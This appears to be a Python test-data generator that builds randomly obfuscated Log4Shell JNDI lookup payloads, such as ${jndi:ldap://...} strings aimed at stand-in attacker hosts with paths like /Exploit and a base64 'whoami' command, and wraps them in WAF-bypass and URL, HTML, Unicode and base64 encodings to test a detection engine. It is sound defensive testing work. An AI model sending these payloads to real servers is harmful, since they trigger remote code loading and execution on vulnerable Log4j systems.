"""Generators of obfuscated payloads and random lookup expressions for engine tests.

Every technique here is a form seen in public write-ups and WAF-bypass lists (see
tests/data/payloads.jsonl for the sources); the generator recombines them at random.
"""

from __future__ import annotations

import base64
import html
import random
from dataclasses import dataclass
from urllib.parse import quote

SCHEMES = ("ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http")
HOSTS = (
    "example.com",
    "a1b2c3.oast.fun",
    "callback.example.net",
    "x.test",
    "attacker.invalid",
    "198.51.100.7",
    "192.0.2.44",
    "203.0.113.250",
    "[2001:db8::7]",
    "[2001:db8:1::ab]",
)
PATHS = (
    "/a",
    "/Exploit",
    "/Basic/Command/Base64/d2hvYW1p",
    "/o=tomcat",
    "/x/y?z=1",
    "",
)


@dataclass(frozen=True)
class Obfuscated:
    """A generated payload and what the engine must recover from it."""

    url: str
    evaluated: str  # what the application logs (Log4j's input)
    value: str  # what arrives in the HTTP field (transport-encoded)
    techniques: tuple[str, ...]
    decodings: tuple[str, ...]


def random_url(rng: random.Random) -> str:
    port = rng.choice(("", ":1389", ":1099", ":53", ":443", ":8080"))
    return f"{rng.choice(SCHEMES)}://{rng.choice(HOSTS)}{port}{rng.choice(PATHS)}"


_UNSET = (
    ("env", "env-lookup"),
    ("sys", "sys-lookup"),
    ("ctx", "context-lookup"),
    ("main", "context-lookup"),
)


def _char(c: str, rng: random.Random, in_prefix: bool, used: set[str]) -> str:
    """One character of the lookup, written with a random technique (tags to used)."""
    choices = ["plain", "default", "empty", "env", "unknown", "date", "nested"]
    if c.islower():
        choices.append("lower")
    if c.isupper() or (in_prefix and c.isalpha()):
        choices.append("upper")
    if in_prefix and c.isalpha():
        choices.append("case")
        if c == "i":
            choices.append("dotless")
    kind = rng.choice(choices)
    if kind == "plain":
        return c
    if kind == "default":
        used.add("default-value")
        return "${" + rng.choice(("x", "NaN", "a:b", "Q")) + ":-" + c + "}"
    if kind == "empty":
        used.update(("empty-key", "default-value"))
        return "${" + rng.choice(("::", ":", "")) + ":-" + c + "}"
    if kind == "env":
        prefix, tag = rng.choice(_UNSET)
        used.update((tag, "default-value"))
        name = rng.choice(("NaN", "BARFOO", "ANY", "x1"))
        return "${" + prefix + ":" + name + ":-" + c + "}"
    if kind == "unknown":
        used.update(("unknown-lookup", "default-value"))
        prefix = rng.choice(("k8s", "docker", "spring", "foo", "web"))
        return "${" + prefix + ":k5:-" + c + "}"
    if kind == "date":
        used.add("date-lookup")
        return "${date:'" + c.replace("'", "''") + "'}"
    if kind == "nested":
        used.add("nested")
        if c.islower():
            used.add("lower")
            return "${${::-" + rng.choice(("l", "L")) + "}ower:" + c + "}"
        used.update(("empty-key", "default-value"))
        return "${${::-::}-" + c + "}"
    if kind == "lower":
        used.add("lower")
        return "${lower:" + rng.choice((c, c.upper())) + "}"
    if kind == "upper":
        used.add("upper")
        return "${upper:" + c + "}"
    if kind == "dotless":
        used.update(("upper", "unicode-case"))
        return "${upper:\u0131}"
    used.add("prefix-case")
    return c.upper()  # the prefix is case-insensitive


def obfuscate_lookup(url: str, rng: random.Random) -> tuple[str, tuple[str, ...]]:
    """``${jndi:url}`` with every character of ``jndi:`` and the scheme obfuscated."""
    used: set[str] = set()
    scheme, sep, rest = url.partition("://")
    head = "".join(_char(c, rng, True, used) for c in "jndi")
    colon = _char(":", rng, False, used)
    body = "".join(_char(c, rng, False, used) for c in scheme + sep)
    # Obfuscate a few characters of the rest as well, never inside brackets.
    tail = "".join(
        _char(c, rng, False, used) if c.isalnum() and rng.random() < 0.2 else c
        for c in rest
    )
    return "${" + head + colon + body + tail + "}", tuple(sorted(used))


def _url_encode_all(text: str) -> str:
    return "".join(f"%{b:02X}" for b in text.encode("utf-8"))


def transport(text: str, rng: random.Random) -> tuple[str, tuple[str, ...]]:
    """Wrap ``text`` in a random transport encoding; returns (value, decodings)."""
    kind = rng.choice(
        ("none", "url", "url2", "url3", "html", "unicode", "hex", "basic")
    )
    if kind == "none":
        return text, ()
    if kind == "url":
        return quote(text, safe=""), ("url",)
    if kind == "url2":
        return quote(quote(text, safe=""), safe=""), ("url", "url")
    if kind == "url3":
        once = _url_encode_all(text)
        return quote(quote(once, safe=""), safe=""), ("url", "url", "url")
    if kind == "html":
        return "".join(
            rng.choice((f"&#{ord(c)};", f"&#x{ord(c):x};", f"&#00{ord(c)};", c))
            if c in "${}:"
            else c
            for c in text
        ), ("html-entity",)
    if kind == "unicode":
        return "".join(
            f"\\u{ord(c):04x}" if c in "${}" or rng.random() < 0.3 else c for c in text
        ), ("unicode-escape",)
    if kind == "hex":
        return "".join(
            f"\\x{ord(c):02x}" if c in "${}" and ord(c) < 0x80 else c for c in text
        ), ("hex-escape",)
    token = base64.b64encode(f"user:{text}".encode()).decode()
    return f"Basic {token}", ("base64",)


def obfuscated(rng: random.Random) -> Obfuscated:
    """One random obfuscated payload for a random URL."""
    url = random_url(rng)
    evaluated, techniques = obfuscate_lookup(url, rng)
    value, decodings = transport(evaluated, rng)
    return Obfuscated(url, evaluated, value, techniques, decodings)


_TOKENS = (
    "${",
    "${",
    "${",
    "}",
    "}",
    "}",
    ":-",
    ":",
    "::-",
    ":\\-",
    "$",
    "$$",
    "{",
    "-",
    "jndi:",
    "JnDi:",
    "j",
    "n",
    "d",
    "i",
    "ldap://x.test/a",
    "rmi://198.51.100.1/b",
    "lower:",
    "upper:",
    "env:",
    "sys:",
    "date:",
    "java:version",
    "java:nope",
    "ctx:",
    "main:",
    "map:",
    "k8s:",
    "hostName",
    "event:Level",
    "'",
    "''",
    "yyyy",
    "q",
    "\u0131",
    "\u0130",
    "\u017f",
    "\u00df",
    "a",
    "B",
    " ",
    "/",
    "${::-j}",
    "${jndi:",
)


def random_expression(rng: random.Random, max_tokens: int = 14) -> str:
    """A random string over the lookup grammar's tokens (often malformed on purpose)."""
    return "".join(rng.choice(_TOKENS) for _ in range(rng.randint(1, max_tokens)))


def html_escape(text: str) -> str:
    return html.escape(text)
